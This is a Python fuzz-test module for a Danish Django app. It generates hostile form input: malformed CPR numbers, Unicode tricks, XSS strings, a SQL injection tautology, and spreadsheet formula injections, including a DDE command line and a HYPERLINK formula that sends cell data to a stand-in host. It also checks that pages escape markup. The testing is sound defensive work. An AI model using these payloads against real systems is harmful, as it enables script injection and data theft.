"""Hostile input for the fuzz tests, and the checks every answer to it must pass.

Strategies by the kind of field they attack (free text, CPR, date, number, choice), each mixing named
payloads (CPR variants, bidi overrides, zero-width and combining characters, control characters, lone
surrogates, HTML, JavaScript and spreadsheet formulas, 1 MB of text) with generated text around them.
"""

from html.parser import HTMLParser
from urllib.parse import quote

from django.apps import apps
from django.db import connection
from hypothesis import strategies as st

from tidlig.audit.models import AccessLog

CPR_VARIANTS = [
    "010203123",  # 9 digits
    "01020312345",  # 11 digits
    "010203-12345",
    "310299-1234",  # 31 February
    "000000-0000",
    "0000000000",
    "321299-1234",
    "011399-1234",
    "290201-4123",  # 29 February in a year that has none
    "010203 1234",
    " 010203-1234 ",
    "010203--1234",
    "01-02-03-1234",
    "010203–1234",  # en dash
    "+010203-1234",
    "-0102031234",
    "０１０２０３１２３４",  # full-width digits
    "０１０２０３-１２３４",
    "٠١٠٢٠٣١٢٣٤",  # Arabic-Indic digits
    "۰۱۰۲۰۳۱۲۳۴",  # Extended Arabic-Indic digits
    "०१०२०३१२३४",  # Devanagari digits
    "010203-12３4",
    "0102031234\u200b",
    "01020\u200b31234",
    "\u202e4321-302010",
    "0102031234\x00",
    "𝟎𝟏𝟎𝟐𝟎𝟑𝟏𝟐𝟑𝟒",  # mathematical bold digits
    "=0102031234",
    "0102031234" * 100,
]

BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\ufeff", "\u2060"]
CONTROL = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x85", "\x9b"]
LONE_SURROGATES = ["\ud800", "\udfff", "a\udc80b"]

HTML = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>klik</a>",
    "</textarea><script>alert(1)</script>",
    "{{ request }}{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<link rel=stylesheet href="http://x.invalid/a.css">',
    "<img src=file:///etc/passwd>",
]

FORMULAS = [
    '=HYPERLINK("http://x.invalid/?d="&A1,"Klik her")',
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]

OTHER = [
    "Ida\u202eløH",
    "e\u0301\u0301\u0301",
    "Z" + "\u0336\u0337\u0338" * 30,  # stacked combining marks
    "Åse Ærø Øster-Ålund",
    "\u2028linje\u2029afsnit",
    "' OR '1'='1' --",
    "%00%0d%0a",
    "\\x00",
    "😀👨‍👩‍👧",
    " ",
    "\u3000",
    "",
    # just over the lengths columns have: 64 (tokens), 80 and 200 (names), 2000 and 5000 (notes)
    "x" * 65,
    "x" * 81,
    "x" * 201,
    "x" * 2001,
    "x" * 5001,
]

ONE_MB = "Bekymring " * 104_858  # a little over 1 MB
# why: drawn as this short name and expanded when posted, so a failing example prints readably
ONE_MB_NAME = "<1 MB of text>"


def expand(payload: str) -> str:
    return payload.replace(ONE_MB_NAME, ONE_MB)


# Markup that must never reach a page as markup: if a payload holds one of these, the page may hold it
# only escaped.
MARKERS = [
    "<script>alert",
    "<img src=x onerror",
    "<svg/onload",
    "<iframe src=javascript",
    "<a href=javascript",
    "</textarea><script",
    "<link rel=stylesheet",
    "<img src=file:",
]

NAMED = CPR_VARIANTS + BIDI + ZERO_WIDTH + CONTROL + LONE_SURROGATES + HTML + FORMULAS + OTHER

_characters = st.characters(
    codec=None, categories=["Cc", "Cf", "Mn", "Zs", "Zl", "Zp", "Nd", "Lo", "Cs", "Po"]
)


@st.composite
def _wrapped(draw) -> str:
    """A named payload with generated text before and after it."""
    before = draw(st.text(max_size=12))
    after = draw(st.text(_characters, max_size=12))
    return before + draw(st.sampled_from(NAMED)) + after


def hostile_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NAMED),
        _wrapped(),
        st.text(_characters, max_size=40),
        st.text(max_size=60),
        st.just(ONE_MB_NAME),
    )


def cpr_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(CPR_VARIANTS),
        st.from_regex(r"\A[0-9]{6}-?[0-9]{4}\Z"),
        st.text(st.characters(categories=["Nd"]), min_size=9, max_size=11),
        hostile_text(),
    )


DATES = [
    "2023-02-30",
    "2023-13-01",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "99999-01-01",
    "1900-01-01",
    "31-02-2023",
    "30.02.2023",
    "２０２０-０１-０１",
    "٢٠٢٠-٠١-٠١",
    "2020-1-1",
    "2020-01-01T00:00",
    "2025-03-30T02:30",  # a time that does not exist in Copenhagen (summer time starts)
    "2025-10-26T02:30",  # a time that exists twice
    "-1",
    "1e10",
]


def date_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(DATES),
        st.dates().map(lambda d: d.isoformat()),
        st.datetimes().map(lambda d: d.strftime("%Y-%m-%dT%H:%M")),
        hostile_text(),
    )


NUMBERS = [
    "+1",
    "-1",
    "0",
    "1e9",
    "1E+999999999",
    "-1E-999999999",
    "NaN",
    "sNaN",
    "Infinity",
    "-inf",
    "1_000",
    "１２",
    "٣",
    "0x10",
    "9" * 400,
    "9" * 5000,
    "1.5",
    "1,5",
    "0.00000000000000000001",
    " 7 ",
]


def number_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NUMBERS),
        st.integers().map(str),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        hostile_text(),
    )


CHOICES = ["0", "-1", "999999999", "00000000-0000-0000-0000-000000000000", "None", "true", "[]", "１"]


def choice_text() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(CHOICES), st.uuids().map(str), hostile_text())


STRATEGIES = {
    "text": hostile_text,
    "cpr": cpr_text,
    "date": date_text,
    "number": number_text,
    "choice": choice_text,
}


def encode_form(data: dict) -> bytes:
    """A urlencoded body as a browser would send it; a lone surrogate goes as the bytes a careless
    client would send (ED A0 80), which is not UTF-8."""

    def enc(value) -> str:
        return quote(str(value).encode("utf-8", "surrogatepass"), safe="")

    pairs = []
    for key, value in data.items():
        for item in value if isinstance(value, list | tuple) else [value]:
            pairs.append(f"{enc(key)}={enc(item)}")
    return "&".join(pairs).encode("ascii")


def as_received(value: str) -> str:
    """What Django hands a form for a posted value: invalid UTF-8 becomes U+FFFD."""
    return value.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def _audit_writes() -> str:
    table = connection.ops.quote_name(AccessLog._meta.db_table)
    actions = ", ".join(f"'{a}'" for a in ("create", "change", "delete"))
    return f"(SELECT COUNT(*) FROM {table} WHERE action IN ({actions}))"  # noqa: S608 (constants only)


# Rows that bad input may leave: the read log, the throttle's counter, sessions.
_NOT_COUNTED = {"audit.accesslog", "audit.accesslogsubject", "referrals.publicsubmission"}


def counted_models() -> list:
    return [
        m
        for m in apps.get_models()
        if m.__module__.startswith("tidlig.") and m._meta.label_lower not in _NOT_COUNTED
    ]


def row_counts() -> dict[str, int]:
    """Rows in every table of Tidlig's own, and the access log's writes, in one query."""
    models = counted_models()
    # why: table names come from the models, never from input
    parts = [f"(SELECT COUNT(*) FROM {connection.ops.quote_name(m._meta.db_table)})" for m in models]  # noqa: S608
    parts.append(_audit_writes())
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + ", ".join(parts))
        values = cursor.fetchone()
    labels = [m._meta.label for m in models] + ["audit writes"]
    return dict(zip(labels, values, strict=True))


def delta(before: dict[str, int], after: dict[str, int]) -> dict[str, int]:
    return {k: after[k] - before[k] for k in before if after[k] != before[k]}


class _Tags(HTMLParser):
    """The start tags, attributes and script text a browser would see."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data"}


def assert_no_markup(html: str, payload: str) -> None:
    """Markup in the payload appears in the page only escaped: no tag, attribute, script or
    javascript: URL of the payload's reaches the browser."""
    lowered = payload.lower()
    for marker in MARKERS:
        if marker in lowered:
            assert marker not in html.lower(), f"{marker!r} rendered as markup"
    if not any(word in lowered for word in ("alert(", "javascript:", "<")):
        return
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        for name, value in attrs:
            value = (value or "").strip().lower()
            assert not name.startswith("on"), f"event handler {name!r} on <{tag}>"
            if name in _URL_ATTRIBUTES:
                assert not value.startswith("javascript:"), f"javascript: URL in <{tag} {name}>"
    for script in parser.scripts:
        assert "alert(" not in script, "the payload runs as a script"


ENGLISH = ["This field", "Enter a valid", "Ensure this value", "Null characters", "Select a valid"]


def assert_danish_error(html: str) -> None:
    """The page says what to fix, beside the field or above the form, and in Danish."""
    assert "form-error-message" in html or "alert-error" in html, "no error shown"
    for text in ENGLISH:
        assert text not in html, f"English error message: {text!r}"
